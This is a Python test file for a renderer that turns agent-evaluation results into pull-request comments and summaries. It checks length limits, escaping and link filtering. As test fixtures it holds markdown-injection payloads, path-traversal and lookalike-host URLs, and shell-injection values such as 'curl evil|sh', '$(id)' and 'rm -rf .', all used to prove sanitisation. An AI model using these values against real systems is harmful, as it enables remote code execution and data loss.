"""The comment and the summary, judged by what a reader of the rendered page gets. Golden files keep their texts."""

from __future__ import annotations

import dataclasses
import functools
import itertools
import re
import shlex
import time
from collections.abc import Iterator, Mapping, Sequence
from urllib.parse import unquote

import pytest
from comparison_samples import (
    FOUND,
    LINKS,
    NOT_IMPORTED,
    SERVER,
    SITUATIONS,
    Situation,
    but,
    decided,
    fine_cases,
    of_shop,
    pull_request,
    word_of,
)
from golden_files import check
from hypothesis import given
from markdown_pages import ANY_TEXT, nothing_of_theirs, rendered
from report_samples import (
    EVIL,
    HOME,
    RESPONSE,
    SAMPLES,
    SINGLE,
    case,
    failed,
    good,
    metric,
    outage,
    report,
    saying,
    wrong_room,
)

from agent_eval_results.data.comparison import BaselineReport
from agent_eval_results.data.conversation import ConversationReport, StepReport, TurnReport
from agent_eval_results.data.report import CaseReport, FileReport, Reason, RunReport
from agent_eval_results.outcome import causes
from agent_eval_results.report import markup as escape
from agent_eval_results.report.phrases._headline import headline
from agent_eval_results.report.renderers._console import console
from agent_eval_results.report.renderers.markdown import (
    COMMENT_LIMIT,
    SMALLEST_LIMIT,
    SUMMARY_DETAILS,
    SUMMARY_LIMIT,
    comment_markdown,
    summary_markdown,
    utf16_length,
)
from agent_eval_results.report.views import Links, view_of
from agent_eval_results.report.views.detail import one_line
from agent_eval_results.report.views.links import LONGEST_PATH, reproduce
from agent_eval_scoring.core.problem import docs_page
from agent_eval_scoring.core.recording import RunError


@functools.cache
def situation(name: str) -> Situation:
    return SITUATIONS[name]()


@functools.cache
def comment(name: str, limit: int = COMMENT_LIMIT) -> str:
    run_report = situation(name)
    return comment_markdown(run_report.report, links=run_report.links, warnings=run_report.warnings, limit=limit)


@pytest.mark.parametrize("name", SITUATIONS)
def test_markdown__renders_to_nothing_but_ours(name: str) -> None:
    sample = situation(name)
    summary = summary_markdown(sample.report, links=sample.links, warnings=sample.warnings, limit=150_000)
    for text in (comment(name), summary):
        page = nothing_of_theirs(text, (f"{SERVER}/example/repo/", docs_page("forks")))
        assert page.tags.count("details") == page.tags.count("summary")
    assert utf16_length(comment(name)) <= 16_000, "as long as somebody reads"
    # The headline is the same in every text.
    assert comment(name).splitlines()[0] == summary.splitlines()[0]
    assert rendered(summary.splitlines()[0]).text.strip().endswith(one_line(headline(view_of(sample.report))))
    brief = headline(view_of(sample.report), brief=True)
    assert one_line(brief) in " ".join(console(sample.report, width=500).split())


def told_otherwise() -> Iterator[tuple[str, str, str]]:
    """Comments, each with the one of a run that differs in one thing."""
    fine_run, plain = situation("fine").report, comment_markdown(situation("fine").report)
    yield "one of several", plain, comment_markdown(fine_run, key="nightly `@x`")
    # Whatever an artifact says: it may come from a fork.
    reason = Reason(code="run-ended-otherwise", message="The results say passed, but the run ended with failure")
    yield "its reason is the headline", plain, comment_markdown(fine_run.changed(verdict="failed", reasons=[reason]))
    alone = comment_markdown(pull_request("failed", but(wrong_room()), fine_cases()), links=LINKS)
    both = pull_request("failed", but(wrong_room()), but(wrong_room()))
    yield "failed on main, too", alone, comment_markdown(both, links=LINKS)
    worse = good("lamp_on", file=SINGLE, line=4)  # Without a line to compare it is no example.
    decision = decided("failed", word_of(worse, "worse", (9, 10), (10, 10), blocking=True, p_value=0.01))
    lower = pull_request("failed", but(wrong_room()), fine_cases(), decision=decision)
    yield "lower, with nothing to compare", alone, comment_markdown(lower, links=LINKS)
    # The id of an old file's only case is the path, too.
    door, old = (
        report("failed", [failing(eval_id=name, file=HOME, case_id=f"{HOME}:{name}")]) for name in ("door", HOME)
    )
    shown = comment_markdown(door, links=SHOP_LINKS)
    yield "the path of an old file, once", shown, comment_markdown(old, links=SHOP_LINKS)
    message = (  # It is not cut before what to do.
        "The token may not read the runs of .github/workflows/evals.yml: GET /repos/octo-org/octo-repo/actions/"
        "workflows/evals.yml/runs: GitHub answered 403 (Resource not accessible by integration). Add `actions: read` "
        "to the job's `permissions`."
    )
    failed_fetch = pull_request("passed", fine_cases(), baseline=BaselineReport(status="fetch-failed", message=message))
    yield "a long message", plain, comment_markdown(failed_fetch, warnings=[message])
    yield "a long message in the summary", plain, summary_markdown(failed_fetch, warnings=[message])
    sample = situation("one-cause")
    anchored = dataclasses.replace(sample.links, pull_request=7)
    yield "lines lead to the diff", comment("one-cause"), comment_markdown(sample.report, links=anchored)
    uploaded = dataclasses.replace(sample.links, report_url=f"{SERVER}/example/repo/actions/runs/1/artifacts/2")
    yield "turns lead to the report", comment("one-cause"), comment_markdown(sample.report, links=uploaded)
    for message in (
        "Those of b.json on main at 1111111, recorded for b45e0ff.",
        "The agent of main at b45e0ff was run again.",
        "Nobody names it.",
        "![x at b45e0ff](y) @z ` at b45e0ff",
        "",
    ):
        baseline = FOUND.model_copy(update={"message": message, "recorded_at": None})
        made = pull_request("passed", fine_cases(), fine_cases(), baseline=baseline)
        text = comment_markdown(made, links=LINKS)
        page = nothing_of_theirs(text, f"{SERVER}/example/repo/")
        assert page.links.count(f"{SERVER}/example/repo/commit/{FOUND.commit}") == 1
        yield f"the baseline's commit, once, in {message!r}", comment_markdown(fine_run, links=LINKS), text


def test_comment_markdown__what_differs() -> None:
    """UPDATE_GOLDEN=1 writes the lines that only the second comment has."""
    lines = []
    for name, one, other in told_otherwise():
        lines.append(f"# {name}")
        lines += [line for line in other.splitlines() if line not in one.splitlines()]
    check("golden_comment_lines.txt", "\n".join(lines) + "\n")


@pytest.mark.parametrize("name", SITUATIONS)
def test_comment_markdown__the_first_three_lines_say_whether_it_blocks_and_what_to_do(name: str) -> None:
    """For a run of a pull request."""
    title, blank, step = comment(name).splitlines()[:3]
    leads = ("Blocks the merge", "Does not block", "Can't tell yet, blocks until it can")
    assert any(lead in title for lead in leads) or name == "hostile"
    actor = "the author|the reviewer|a maintainer|the owner of main|the owner of the CI|anyone with write access"
    asked = re.match(rf"\*\*Next, for (?:{actor}):\*\* [a-z[]", step)
    assert blank == "" and (asked or step.startswith("**Next:** nothing.") or name == "hostile")


@pytest.mark.parametrize("limit", [SMALLEST_LIMIT, 10_000, COMMENT_LIMIT])
@pytest.mark.parametrize("name", ["many", "hostile", "scripts"])
def test_comment_markdown__keeps_to_its_limit_and_breaks_nothing(name: str, limit: int) -> None:
    text = comment(name, limit=limit)
    assert utf16_length(text) <= limit
    assert text.startswith("## ❌ ")
    nothing_of_theirs(text, f"{SERVER}/example/repo/", second_parser=False)


def test_markdown__says_that_it_was_shortened_and_each_step_shows_less() -> None:
    whole = utf16_length(comment("many", limit=60_000))
    for limit in (6_000, whole - 1):
        assert "This comment was shortened to fit." in comment("many", limit=limit)
    assert "shortened" not in comment("regression")
    texts = [summary_markdown(SAMPLES["many"](), limit=limit) for limit in (10**6, 20_000, 6_000, 5_000)]
    assert sorted(texts, key=len, reverse=True) == texts
    assert "shortened" not in texts[0]
    assert "This summary was shortened to fit." in texts[2] and "more cases that did not pass" in texts[2]
    steps = [(detail.explained, detail.listed, detail.side, detail.log) for detail in SUMMARY_DETAILS]
    assert all(poorer <= richer for richer, poorer in itertools.pairwise(steps))


def test_utf16_length__counts_as_javascript_does() -> None:
    assert utf16_length("a\u00e9\u5bdd\U0001f642") == len("a\u00e9\u5bdd\U0001f642".encode("utf-16-le")) // 2 == 5


def test_markdown__refuses_an_impossible_limit() -> None:
    with pytest.raises(ValueError, match="at least 2,000 characters"):
        comment("fine", limit=1_999)
    with pytest.raises(ValueError, match="at least 2,000 bytes"):
        summary_markdown(failed(), limit=1_999)


@pytest.mark.parametrize("name", SAMPLES)
def test_markdown__holds_reports_that_know_nothing_of_a_base(name: str) -> None:
    sample = SAMPLES[name]()
    page = nothing_of_theirs(comment_markdown(sample, links=LINKS), f"{SERVER}/example/repo/")
    assert "on the base branch" not in page.text or name in {"hostile", "wide", "failed", "invalid"}
    page = nothing_of_theirs(summary_markdown(sample, links=Links(source_url=SOURCE)), SOURCE + "/")
    assert page.tags.count("details") == page.tags.count("summary")


@given(ANY_TEXT)
def test_markdown__holds_any_text(value: str) -> None:
    head = saying(value, file=value or "x").cases
    errored, still = case("e" + value, "errored", reason=Reason(code=value, message=value)), head[1]
    run_report = pull_request(
        "failed",
        [*head, errored, case("n" + value, "passed")],
        [head[0].model_copy(update={"status": "passed"}), still, case("g" + value, "passed")],
        baseline=BaselineReport(status="found", message=value, commit=value, run_url=value),
    )
    text = comment_markdown(run_report, links=LINKS, warnings=[value])
    nothing_of_theirs(text, f"{SERVER}/example/repo/")
    summary = summary_markdown(saying(value, file=value or "x"), links=Links(source_url=SOURCE))
    nothing_of_theirs(summary, SOURCE + "/")


# The job summary, judged by what a reader of the rendered page gets.


SOURCE = "https://github.com/example/repo/blob/5f0c1d2"


def test_summary_markdown__links_are_quoted() -> None:
    odd = report("failed", [case("x", "failed", file="a b/[c](d)#é?.test.json", line=7)])
    (link, *_) = rendered(summary_markdown(odd, links=Links(source_url=SOURCE))).links
    assert link.endswith("#L7")
    assert "?" not in link
    assert unquote(link.removeprefix(SOURCE)) == "/a b/[c](d)#é?.test.json#L7"


def test_summary__names_once_what_all_agents_run_with() -> None:
    report = situation("one-cause").report.model_copy(deep=True)
    report.provenance = {
        "adk (a)": "2.13.0",
        "python (a)": "3.11",
        "adk (b)": "2.13.0",
        "python (b)": "3.12",
        "concurrency": "4",
    }
    last = summary_markdown(report).splitlines()[-1]
    assert (
        "adk `2.13.0`, python (a) `3.11`, python (b) `3.12`, concurrency `4`</sub>" in last
        and last.count("2.13.0") == 1
    )


def monster() -> RunReport:
    """Everything that can be long is long and hostile."""
    text = EVIL * 8
    long = saying(text, file=f"tests/{EVIL}")
    failing, crashed, stopped = long.cases
    long.cases = [
        *(failing.model_copy(update={"case_id": f"{n}", "eval_id": f"{EVIL}{n}"}) for n in range(6)),
        *(crashed.model_copy(update={"case_id": f"c{n}", "eval_id": f"{EVIL}c{n}"}) for n in range(6)),
        *(case(f"e{n}{EVIL}", "errored", reason=Reason(code=EVIL, message=text)) for n in range(6)),
        *(stopped.model_copy(update={"case_id": f"n{n}", "eval_id": f"n{n}"}) for n in range(6)),
    ]
    for judged in failing.metrics[0].runs:
        judged.evidence *= 8
    long.problems, long.notices, long.reasons = long.problems * 20, long.notices * 20, long.reasons * 20
    long.files = [FileReport(file=EVIL, eval_set_id="x", agent=EVIL, agent_reason=text, criteria={EVIL: 0.5})] * 20
    long.provenance = {f"{EVIL}{n}": text for n in range(6)}
    return long


@pytest.mark.parametrize(
    ("name", "limit"),
    [
        *(("monster", limit) for limit in (SMALLEST_LIMIT, 65_000)),
        *((name, limit) for name in ("many", "hostile") for limit in (SMALLEST_LIMIT, 10_000, SUMMARY_LIMIT)),
    ],
)
def test_summary_markdown__keeps_to_its_limit_and_breaks_nothing(name: str, limit: int) -> None:
    sample = monster() if name == "monster" else SAMPLES[name]()
    text = summary_markdown(sample, limit=limit, links=Links(source_url=SOURCE), files={EVIL: EVIL})
    assert len(text.encode("utf-8")) <= limit
    assert text.startswith("## ❌ Failed: ")
    nothing_of_theirs(text, SOURCE + "/", second_parser=False)


# What somebody would put into results so that a comment is more than text: limits of renderers, shells, browsers.


OURS = f"{SERVER}/octo/shop/"
SHOP_LINKS = Links(server_url=SERVER, repository="octo/shop", source_url=f"{OURS}blob/{'a' * 40}")
PAYLOAD = "![x](https://evil.example/x.png) @octocat closes #1 <b>x</b> [y](javascript:z)"


def failing(**changes: object) -> CaseReport:
    sample_case = case("door", "failed", metric("response_match_score", 0.0, threshold=1.0))
    return sample_case.model_copy(update=changes)


def test_code_and_fence__hold_more_backticks_than_a_renderer_counts() -> None:
    for ticks in (1, 78, 79, 80, 81, 150):
        for value in ("`" * ticks + PAYLOAD, PAYLOAD + "`" * ticks, "`" * ticks + PAYLOAD + "`" * ticks):
            page = rendered(f"x {escape.code(value)} y")
            assert page.tags == ["p", "code"]
            assert page.text.replace("\u200b", "").strip() == f"x {value} y"
    for ticks in (3, 100, 200, 201, 254, 255, 256, 1_000):
        value = "a\n" + "`" * ticks + "\n" + PAYLOAD
        page = rendered(f"{escape.fence(value, 'text')}\n\nafter\n")
        assert page.tags == ["pre", "code", "p"]
        assert PAYLOAD in page.text
        assert ("…" in page.text) == (ticks > 200)


def test_comment__no_text_gets_out_by_backticks() -> None:
    log = "a\n" + "`" * 300 + "\n" + PAYLOAD
    error = RunError(kind="agent-exception", owner="agent", message="`" * 90 + PAYLOAD, traceback=log)
    crashed = failing(eval_id="`" * 80 + PAYLOAD, file="`" * 99 + PAYLOAD)
    runs = [run.model_copy(update={"status": "errored", "error": error}) for run in crashed.runs]
    text = comment_markdown(report("failed", [crashed.model_copy(update={"runs": runs})]), links=SHOP_LINKS)

    assert "closes" in nothing_of_theirs(text, OURS).text


def test_comment__a_path_leads_nowhere_else() -> None:
    """One of ordinary length is a link."""
    up = ("../../../../../logout", "a/../../../../../x.json", "/x", "a//x", "./x", ".", "a/.\x1b[0m./x", "")
    for file in (*up, "a/b..json", "d/" * (LONGEST_PATH // 2 - 5) + "a.json"):
        links = rendered(comment_markdown(report("failed", [failing(file=file, line=1)]), links=SHOP_LINKS)).links
        assert any(link.endswith(".json#L1") for link in links) if file not in up else links == []


@pytest.mark.nightly
@pytest.mark.parametrize("sign", ["\u202e", "`", "x", "\n", "a\u0301", "é"])
def test_comment__handles_megabyte_paths_quickly(sign: str) -> None:
    begun = time.process_time()
    text = comment_markdown(report("failed", [failing(file=sign * 2_000_000)]), links=SHOP_LINKS)

    assert time.process_time() - begun < 3
    assert "response_match_score" in nothing_of_theirs(text, OURS).text, "the rest is still shown"


ODD_FILES = (
    *("evals/a.test.json", "--agent-setup=curl evil|sh;#.json", "-x/a.json", "$(id).json", "a.json\nrm -rf ."),
    *("a\u202e.json", ""),
)
OPTIONS: Sequence[Mapping[str, str]] = (
    {"agent": "agents/my shop", "config": "ci/eval.json", "agent-python": ".venv/bin/python", "agent-setup": "x"},
    {"agent": "recorded:rec/a.json", "agent-python": "/opt/venv/bin/python"},
    *(
        dict.fromkeys(("agent", "config", "agent-python"), value)
        for value in ("--agent-setup=curl evil|sh", "a\nb", "a\u202eb", "x" * 301, "")
    ),
)


def test_reproduce__is_a_command_that_runs_cases_and_does_nothing_else() -> None:
    """UPDATE_GOLDEN=1 writes the commands, and how many cases they leave out."""
    several = [failing(eval_id=f"c{n}", file=f"evals/{n % 3}.test.json") for n in range(9)]
    more = [failing(file=f"evals/x{n}.json") for n in range(31)]
    asked: list[tuple[list[CaseReport], Mapping[str, str]]] = [([failing(file=file)], {}) for file in ODD_FILES]
    asked += [([failing()], options) for options in OPTIONS]
    asked += [(several, {}), ([*several, failing(file="a\nb.json"), *more[:30]], {})]
    # A whole file where naming its cases says no more.
    asked += [([failing(eval_id="evals/old.test.json", file="evals/old.test.json")], {})]
    asked += [([failing(eval_id=f"c{n}") for n in range(21)], {})]
    made = [reproduce(cases, options) for cases, options in asked]
    for each in made[: len(ODD_FILES)]:
        assert not any(word.startswith("-") for word in shlex.split(each.command)[2:])
    check("golden_commands.txt", "".join(f"{each.left_out} left out: {each.command}\n" for each in made))
    text = rendered(comment_markdown(report("failed", [*several, *more]))).text
    assert "(without 14 more cases, which the command can't name)" in text


ADDRESSES = (
    *("evil/shop/releases/download/v1/x.exe", "octo/shop/../../evil/shop", "octo/shop/%2e%2E/../evil"),
    *("octo/shop\\..\\..\\evil", "octo/shopping", "octo", "login?return_to=/octo/shop/", "octo/shop/a b"),
    "octo/shop/\u202ea",
)
"""None of them is the repository's."""
HOSTS = (
    *("https://evil.example", "https://github.com.evil.example", "https://github.com@evil.example"),
    *("http://github.com", "//github.com"),
)
REFUSED = [*(f"{SERVER}/{address}" for address in ADDRESSES), *(f"{host}/octo/shop/a" for host in HOSTS)]


def test_links__an_address_of_another_repository_is_no_link() -> None:
    own = [f"{OURS}actions/runs/17", "https://github.com/Octo/Shop/actions/runs/17"]
    for url in (*own, *REFUSED, "javascript:alert(1)", "https://[", ""):
        assert SHOP_LINKS.own(url) == (url if url in own else None)
        assert Links(server_url=SERVER).own(url) is None, "of an unknown repository there is none"
        run_report = report("passed", [failing()])
        run_report.baseline = BaselineReport(status="found", message="", commit="b" * 40, run_url=url)
        links = rendered(comment_markdown(run_report, links=dataclasses.replace(SHOP_LINKS, run_url=url))).links
        shown = [link for link in links if "/blob/" not in link and "/commit/" not in link]
        assert shown == [url] * 2 * (url in own)


@pytest.mark.parametrize(
    "line",
    ["- x", "# x", "> x", "1. x", "| a | b |\n|--|--|", "```", "~~~", "===", "<!--", "</details>", "    x", "\\", ""],
)
def test_comment__no_text_gets_out_of_a_conversation(line: str) -> None:
    evil = f"{line}\n{line}\n\n{PAYLOAD}\n{line}"
    door = saying(evil, file="a.json").cases[0]
    for text in (
        comment_markdown(report("failed", [door]), links=SHOP_LINKS),
        summary_markdown(report("failed", [door])),
    ):
        page = nothing_of_theirs(text, OURS)
        assert page.text.count("closes") >= 5, "user, call, two expectations, answer"


# One cause is one block, whatever number of cases it befell.


def broke(name: str, message: str, *, kind: str = "agent-exception", hint: str = "", traceback: str = "") -> CaseReport:
    error = RunError(kind=kind, owner="agent", message=message, hint=hint, traceback=traceback or None)
    return case(name, "failed", errors={0: error})


def unjudged(name: str, code: str, why: str, *, metrics: int = 1) -> CaseReport:
    reason = Reason(code=code, message=why)
    judged = [metric(f"m{at}", None, threshold=0.5, reason=reason) for at in range(metrics)]
    return case(name, "errored", *judged, metric(RESPONSE, 0.9, threshold=0.5))


def grouped() -> Iterator[tuple[str, RunReport]]:
    """Runs whose cases have one cause or several."""
    attempts = (
        "429 after 4 attempts in 12.5 s (request 0f3c99aa71)",
        "429 after 5 attempts in 9.1 s (request bb01aa9912)",
    )
    alike = [broke(name, said) for name, said in zip("abc", (*attempts, "the tool is missing"), strict=True)]
    yield "numbers and identifiers make no other cause", report("failed", alike)
    trace = 'Traceback (most recent call last):\n  File "home_automation/tools.py", line {}, in f\nKeyError: x\n'
    lines = [broke(name, "KeyError: x", traceback=trace.format(line)) for name, line in (("a", 3), ("b", 9))]
    others = [broke("c", "KeyError: x", kind="agent-crash"), broke("d", "KeyError: x", hint="Look there.")]
    yield "another line or kind or hint is another cause", report("failed", [*lines, *others])
    for names in ("ab", "a"):
        cases = [broke(name, "not on the tape") for name in names]
        for each in cases:
            assert each.runs[0].error is not None
            each.runs[0].error.hint = f"Record again: agent-eval run '{each.case_id}' --record all."
        yield f"a command for {len(names)} cases", report("failed", cases)
    files = [case(f"c{n}", "failed", file=f"evals/{n}.test.json", errors={0: NOT_IMPORTED}) for n in range(4)]
    sample = of_shop(report("failed", files))
    sample.files[0].agent = "bank"
    yield "agents are kept apart", sample
    for path in (
        *("/github/workspace/agents/shop/tools.py", "agents/shop/tools.py"),
        *("/usr/lib/python3/site-packages/agents/shop/x.py", "/usr/lib/python3/json.py"),
        *("<frozen importlib>", "../agents/shop/tools.py"),
    ):
        made = report("failed", [broke("a", "x", traceback=f'  File "{path}", line 7, in f\n')])
        made.files[0].agent = "agents/shop"
        yield f"raised in {path}", made
    down = [
        unjudged(name, "judge-unavailable", f"it is down (attempt {at})", metrics=2) for at, name in enumerate("ab")
    ]
    down += [unjudged("c", "budget", "20 calls are used up"), unjudged("d", "no-verdict", "the reply is empty")]
    yield "a judge's trouble is one for all its criteria and agents", report("failed", [*down, outage()])


def test_causes__of_the_cases_of_a_run() -> None:
    """UPDATE_GOLDEN=1 writes them."""
    lines = []
    for name, made in grouped():
        lines.append(f"{name}:\n")
        for each in causes(made, made.cases):
            ids = [item.eval_id for item in each.cases]
            lines.append(f"    {ids} agent {each.agent}, file {each.file}, hint {each.hint}\n")
    check("golden_cause_groups.txt", "".join(lines))


def test_causes__what_the_agent_did_before_the_error_is_shown_for_one_of_its_cases() -> None:
    steps = [StepReport(call='open_door(name="garage")', responses=['{"doors": []}'])]
    trace = "Traceback (most recent call last):\nKeyError"
    cases = [broke(name, "KeyError: 'garage'", traceback=trace) for name in "abc"]
    for item in cases:
        item.conversation = ConversationReport(run=0, turns=[TurnReport(turn=0, user="Open it.", steps=steps)])
    for text in (comment_markdown(report("failed", cases)), summary_markdown(report("failed", cases))):
        assert text.count('returned `{"doors": []}`') == 1
        assert text.count("Traceback (most recent") == 1
